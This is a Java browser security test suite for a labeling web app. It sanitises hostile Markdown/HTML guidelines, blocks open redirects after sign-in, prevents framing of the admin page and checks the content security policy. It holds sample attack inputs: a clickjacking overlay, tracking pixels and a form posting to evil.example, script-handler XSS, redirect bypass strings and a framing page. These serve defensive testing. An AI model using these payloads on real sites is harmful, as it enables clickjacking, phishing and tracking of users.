package dev.rlhf.labeling.web;

import static dev.rlhf.labeling.LabelingApi.prompts;
import static dev.rlhf.labeling.web.Seed.PASSWORD;
import static dev.rlhf.labeling.web.Seed.project;
import static dev.rlhf.labeling.web.Seed.user;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.rlhf.testing.EmbeddedKafkaResource;
import dev.rlhf.testing.EmbeddedPostgresResource;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;

/** What an attacker tries in the browser: hostile guidelines, redirects after sign-in, framing. */
@QuarkusTest
@QuarkusTestResource(EmbeddedPostgresResource.class)
@QuarkusTestResource(EmbeddedKafkaResource.class)
class SecurityBrowserTest extends BrowserTestBase {

  /** Guidelines a hostile or careless researcher could write: each line tries something. */
  private static final String HOSTILE_GUIDELINES =
      String.join(
          "\n",
          "# Rules",
          "",
          "<a href=\"https://evil.example/catch\" style=\"position:fixed;top:0;left:0;"
              + "width:100vw;height:100vh;z-index:99999;display:block;background:transparent\">"
              + "Read the rules</a>",
          "",
          "![pixel](https://evil.example/pixel.png) <img src=\"https://evil.example/t.gif\">",
          "",
          "<form action=\"https://evil.example/steal\"><input name=\"q\">"
              + "<button>Submit</button></form>",
          "",
          "<div class=\"overlay\" id=\"status\">fake status</div>",
          "<iframe src=\"https://evil.example/\"></iframe>",
          "<svg><a href=\"https://evil.example/\"><rect width=\"9999\" height=\"9999\"/></a></svg>",
          "<details open ontoggle=\"window.__xss='details'\">x</details>",
          "",
          "[a link](javascript:window.__xss='link') and [a fine one](https://example.org/help)",
          "",
          "Write **clearly**.");

  @Test
  void shouldRenderHostileGuidelinesHarmlessAndKeepTheSubmitButtonClickable() {
    String researcher = user("researcher");
    String contractor = user("contractor");
    String project = project(researcher, HOSTILE_GUIDELINES);
    prompts(researcher, project, "DEMONSTRATION", "Name a colour.");

    browser.signIn(contractor, PASSWORD, "/workbench.html?project=" + project);
    browser.waitFor(By.cssSelector("#guidelines-body h1"));
    WebElement guidelines = browser.driver.findElement(By.id("guidelines-body"));
    browser.screenshot("workbench-hostile-guidelines");

    assertThat(guidelines.findElements(By.cssSelector("[style], [class], [id]"))).isEmpty();
    assertThat(
            guidelines.findElements(
                By.cssSelector("form, input, button, iframe, svg, details, img, script, style")))
        .isEmpty();
    assertThat(guidelines.getText()).contains("Read the rules", "Write clearly.");
    List<WebElement> links = guidelines.findElements(By.cssSelector("a[href]"));
    assertThat(links)
        .extracting(a -> a.getDomAttribute("href"))
        .contains("https://example.org/help")
        .allSatisfy(href -> assertThat(href).startsWith("https://"));
    assertThat(links).allSatisfy(a -> assertThat(a.getDomAttribute("rel")).contains("noopener"));

    // Nothing of the guidelines lies over the task: the submit button gets the click.
    WebElement submit = browser.waitFor(By.xpath("//button[normalize-space()='Submit response']"));
    Object onTop =
        browser.script(
            "const r = arguments[0].getBoundingClientRect();"
                + " return document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2)"
                + " === arguments[0];",
            submit);
    assertThat(onTop).isEqualTo(true);
    assertThat(browser.script("return window.__xss === undefined")).isEqualTo(true);
    // No request left for another site: no tracking pixel.
    assertThat(
            (List<?>)
                browser.script(
                    "return performance.getEntriesByType('resource').map(e => e.name)"
                        + ".filter(n => n.includes('evil.example'))"))
        .isEmpty();
  }

  @Test
  void shouldSendNobodyToAnotherSiteAfterSignInWhateverTheNextParameterSays() {
    String contractor = user("contractor");
    for (String next :
        List.of(
            "/%5Cevil.example",
            "/%09/evil.example",
            "//evil.example",
            "https://evil.example/",
            "/%5C%5Cevil.example")) {
      browser.open("/css/app.css");
      browser.driver.manage().deleteAllCookies();
      browser.open("/?next=" + next);
      browser.waitFor(By.id("username")).sendKeys(contractor);
      browser.driver.findElement(By.id("password")).sendKeys(PASSWORD);
      browser.driver.findElement(By.cssSelector("#signin button[type=submit]")).click();
      browser.waitFor(By.cssSelector("#account .who"));
      assertThat(URI.create(browser.driver.getCurrentUrl()).getAuthority())
          .as("after sign-in with next=" + next)
          .isEqualTo(base.getAuthority());

      // Signed in already, the sign-in page sends the visitor on at once: still not elsewhere.
      browser.open("/?next=" + next);
      browser.waitFor(By.cssSelector("#account .who"));
      assertThat(URI.create(browser.driver.getCurrentUrl()).getAuthority())
          .as("signed in, next=" + next)
          .isEqualTo(base.getAuthority());
    }
  }

  @Test
  void shouldFollowASameSitePathAfterSignIn() {
    browser.signIn(user("researcher"), PASSWORD, "/cycles/?from=link");

    assertThat(URI.create(browser.driver.getCurrentUrl()).getPath()).isEqualTo("/cycles/");
    assertThat(URI.create(browser.driver.getCurrentUrl()).getQuery()).isEqualTo("from=link");
  }

  @Test
  void shouldNotLetAPageOnAnotherPortFrameTheAdminPage() throws Exception {
    String admin = user("admin");
    browser.signIn(admin, PASSWORD, "/admin/");
    browser.waitFor(By.cssSelector("#users tr"));

    // The attacker's page: same host, another port, so the SameSite cookie would go along.
    HttpServer attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    byte[] page =
        ("<!doctype html><title>win a prize</title><iframe id=victim width=800 height=600 src=\""
                + base.toString().replaceAll("/$", "")
                + "/admin/\"></iframe>")
            .getBytes(StandardCharsets.UTF_8);
    attacker.createContext(
        "/",
        exchange -> {
          exchange.getResponseHeaders().add("Content-Type", "text/html");
          exchange.sendResponseHeaders(200, page.length);
          exchange.getResponseBody().write(page);
          exchange.close();
        });
    attacker.start();
    try {
      browser.driver.get("http://127.0.0.1:" + attacker.getAddress().getPort() + "/");
      WebElement frame = browser.waitForPresent(By.id("victim"));
      Thread.sleep(1000);
      browser.driver.switchTo().frame(frame);
      String framed = browser.driver.getPageSource();
      browser.driver.switchTo().defaultContent();

      assertThat(framed).doesNotContain("Users and API keys", "Create a user");
    } finally {
      attacker.stop(0);
    }
  }

  @Test
  void shouldRunEveryPageUnderTheContentSecurityPolicyWithoutAViolation() {
    String admin = user("admin");
    browser.signIn(admin, PASSWORD, "/console.html");
    browser.printConsole();
    for (String page :
        List.of(
            "/console.html",
            "/admin/",
            "/cycles/",
            "/models/",
            "/arena/",
            "/reports/",
            "/chat/",
            "/account/",
            "/workbench.html")) {
      browser.open(page);
      browser.waitFor(By.cssSelector("#account .who, #account"));
      List<String> violations =
          browser.driver.manage().logs().get(LogType.BROWSER).getAll().stream()
              .map(LogEntry::getMessage)
              .filter(m -> m.contains("Content Security Policy") || m.contains("Refused to"))
              .toList();
      assertThat(violations).as(page).isEmpty();
    }
  }
}
